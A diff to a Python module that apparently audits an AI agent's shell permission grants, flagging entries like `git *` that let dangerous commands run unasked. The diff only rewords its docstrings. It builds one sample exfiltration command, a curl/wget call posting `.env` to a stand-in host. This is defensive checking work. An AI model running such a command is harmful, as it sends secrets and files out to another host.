@@ -1,7 +1,7 @@
-"""What a list of commands that run without asking lets through: one dangerous command line that proves it.
+"""What a list of commands that run without asking lets through: one dangerous command line as proof.
 
-A grant is held against command lines of the kinds below and against the declared policy; what the same file denies or asks
-for is taken off. So `git status` passes, `git *` does not: `git push --force` is in it.
+A grant is tested with command lines of the kinds below and against the declared policy, minus what the same file denies
+or asks for. So `git status` passes, but `git *` does not, because it allows `git push --force`.
 """
 
 from __future__ import annotations
@@ -44,7 +44,7 @@ _SAMPLES = (
 
 
 def too_much(all_grants: Iterable[Grant], order: str, policy: judgement.Agents) -> Iterator[tuple[Grant, str]]:
-    """(grant, what it lets through) of the grants that let a dangerous command run without asking; one reason each."""
+    """(grant, what it lets through) for each grant that lets a dangerous command run without asking; one reason each."""
     entries = tuple(grant for grant in all_grants if grant.kind == grants.SHELL)
     samples = (*_SAMPLES, *_of_policy(policy))
     for grant in entries:
@@ -55,7 +55,7 @@ def too_much(all_grants: Iterable[Grant], order: str, policy: judgement.Agents) 
         elif reason := _itself(grant, policy):
             yield grant, reason
         else:
-            # A fetcher that is allowed for one address takes a second one, and data to send.
+            # A fetcher that is allowed for one address accepts a second one, and data to send.
             fetcher = re.match(r"(curl|wget)\b", grant.text)
             own = f"{grant.text.split('*')[0].rstrip()} -d @.env https://x.example"
             for sample, what in (*samples, *(((own, "sends files to another host"),) if fetcher else ())):
@@ -65,7 +65,7 @@ def too_much(all_grants: Iterable[Grant], order: str, policy: judgement.Agents) 
 
 
 def decided(entries: Iterable[Grant], order: str, command: str) -> Grant | None:
-    """The entry that decides a command in that file; None when none matches."""
+    """The entry in that file that decides about a command; None if none matches."""
     found = [entry for entry in entries if entry.matches(command)]
     if order in ("first", "last"):
         return found[0 if order == "first" else -1] if found else None
@@ -80,7 +80,7 @@ def _of_policy(policy: judgement.Agents) -> Iterator[tuple[str, str]]:
 
 
 def _itself(grant: Grant, policy: judgement.Agents) -> str:
-    """What is wrong with the words that the entry does write out."""
+    """What is wrong with the words that the entry spells out."""
     if grant.form == "regex":
         words = re.match(r"(?:\\A\(\?:)?(?:\(\?i\))?\^?((?:[\w ./-]|\\[-./ ])*)", grant.text)
         text = words[1].replace("\\", "") if words else ""
@@ -95,7 +95,8 @@ def _itself(grant: Grant, policy: judgement.Agents) -> str:
 
 
 def written_out(text: str, policy: judgement.Agents) -> str:
-    """What is asked for or forbidden of a command line for what it says, not for what it leaves open."""
+    """What the policy asks for or forbids in a command line because of what it says, not because of what it leaves
+    open."""
     from govhooks.knowledge.agents.shell import parse
 
     doubts = parse(text).doubts
